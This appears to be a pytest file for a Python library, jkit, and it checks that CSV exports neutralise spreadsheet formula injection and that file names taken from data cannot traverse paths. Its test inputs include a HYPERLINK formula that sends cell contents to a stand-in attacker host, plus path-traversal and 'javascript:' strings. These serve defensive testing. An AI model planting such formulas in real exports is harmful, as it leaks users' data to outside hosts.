"""CSV formula injection (issue 16.6): every CSV jkit writes neutralises formula-like text cells."""

from __future__ import annotations

import io

import pandas as pd

from jkit.safe_csv import neutralise, to_csv_text, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+1", "-2+3", "\tx", "\rx"]


def test_formula_like_text_gets_a_leading_apostrophe():
    for cell in HOSTILE:
        assert neutralise(cell) == "'" + cell
    for cell in ("plain", "a=b", "50% off", "", "'quoted"):
        assert neutralise(cell) == cell
    assert neutralise(-3.5) == -3.5 and neutralise(None) is None


def test_written_csv_has_no_cell_a_spreadsheet_would_run(tmp_path):
    import csv

    frame = pd.DataFrame({"phrase": HOSTILE, "value": [-1.5, 2, 3, 4, 5, 6],
                          "=cmd": pd.Series(["x"] * 6, dtype="string")})
    path = write_csv(frame, tmp_path / "out.csv")
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["phrase", "value", "'=cmd"]
    assert [r[1] for r in rows[1:]] == ["-1.5", "2.0", "3.0", "4.0", "5.0", "6.0"]  # numbers stay numbers
    assert [r[0] for r in rows[1:]] == ["'" + c for c in HOSTILE]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in (r[0], r[2]))
    assert to_csv_text(frame.head(1)).splitlines()[1].startswith('"\'=HYPERLINK(')
    assert len(pd.read_csv(io.StringIO(to_csv_text(frame.head(4))))) == 4


def test_journey_map_csv_neutralises_event_names_from_data(tmp_path):
    import csv

    import jkit
    from jkit.journey_map import journey_map

    events = pd.DataFrame({"customer_id": ["1", "1", "2", "2"], "timestamp": pd.date_range("2024-01-01", periods=4,
                           freq="h", tz="UTC"), "event": ["=SUM(A1:A9)", "@buy", "=SUM(A1:A9)", "@buy"]})
    stages = {"name": "s", "stages": [{"name": "look", "events": ["=SUM(A1:A9)"]}, {"name": "buy", "events": ["@buy"]}]}
    jmap = journey_map(jkit.load(events=events, stages=stages))
    jmap.to_csv(tmp_path / "map.csv")
    with open(tmp_path / "map.csv", newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert "'=SUM(A1:A9)" in cells and "'@buy" in cells
    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)


def test_file_slug_keeps_names_from_data_out_of_paths(tmp_path):
    from jkit.safe_csv import file_slug

    assert file_slug("consider ../../../escaped - javascript:alert.1") == "consider_escaped_-_javascript_alert_1"
    assert file_slug("retention") == "retention" and file_slug("../..") == "unnamed"
    assert "/" not in file_slug("a/b\\c") and len(file_slug("x" * 500)) == 60
    import pytest

    with pytest.raises(ValueError, match="'..' is refused"):
        write_csv(pd.DataFrame({"a": [1]}), tmp_path / ".." / "escaped.csv")
